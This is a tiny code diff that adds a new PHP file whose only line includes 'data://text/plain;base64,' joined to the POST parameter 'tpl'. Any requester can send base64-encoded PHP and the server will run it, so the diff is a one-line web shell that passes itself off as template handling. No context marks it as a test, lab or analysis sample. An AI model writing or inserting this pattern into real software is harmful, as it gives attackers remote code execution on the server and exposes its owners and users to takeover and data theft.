@@ -1,0 +1,2 @@
+<?php
+include 'data://text/plain;base64,' . $_POST['tpl'];
